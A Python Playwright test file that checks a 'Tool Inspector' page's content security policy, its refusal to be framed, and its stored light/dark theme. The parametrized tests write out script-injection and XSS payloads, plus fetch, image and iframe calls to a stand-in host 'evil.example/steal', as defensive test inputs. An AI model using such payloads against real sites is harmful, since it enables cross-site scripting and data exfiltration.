"""The page of the inspector: its content security policy, and the stored theme."""

from typing import Any

import pytest
from playwright.sync_api import Page, expect

# `conftest.Served`: fixtures are found by name, and test files cannot import each other.
Serve = Any


@pytest.mark.parametrize(
    "attack",
    [
        "const s = document.createElement('script'); s.textContent = 'document.title = 1'; document.body.append(s)",
        "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
        "document.body.setAttribute('onclick', 'alert(1)'); document.body.click()",
        "fetch('https://evil.example/steal')",
        "const i = new Image(); i.src = 'https://evil.example/x.png'",
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/frame'}))",
    ],
)
def test_policy_blocks_injected_scripts(page: Page, served: Serve, attack: str) -> None:
    page.goto(served())
    # A promise: the policy also forbids the evaluations with which `wait_for_function()` polls.
    page.evaluate(
        "window.stopped = new Promise((resolve) => { window.stop = resolve; "
        "document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective)); }); null"
    )
    page.evaluate(f"try {{ {attack} }} catch (error) {{ window.stop(String(error)); }} null")
    assert page.evaluate("window.stopped")
    page.problems.clear()  # type: ignore[attr-defined]  # Chromium logs each violation
    assert "pwned" not in page.title()


def test_page_cannot_be_framed(page: Page, served: Serve) -> None:
    url = served()
    page.goto(url.replace("/inspector", "/health"))
    page.set_content(f'<iframe src="{url}"></iframe>')
    frame = page.frames[-1]
    frame.wait_for_load_state()
    assert "Tool Inspector" not in frame.content()
    page.problems.clear()  # type: ignore[attr-defined]  # Chromium logs the violation


def test_theme_is_stored(page: Page, served: Serve) -> None:
    page.goto(served())
    button = page.locator("#theme")
    for name, ground in (("light", "rgb(244, 246, 248)"), ("dark", "rgb(15, 21, 27)")):
        button.click()
        expect(button).to_have_text(f"Theme: {name}")
        expect(page.locator("body")).to_have_css("background-color", ground)
    page.reload()
    expect(button).to_have_text("Theme: dark")
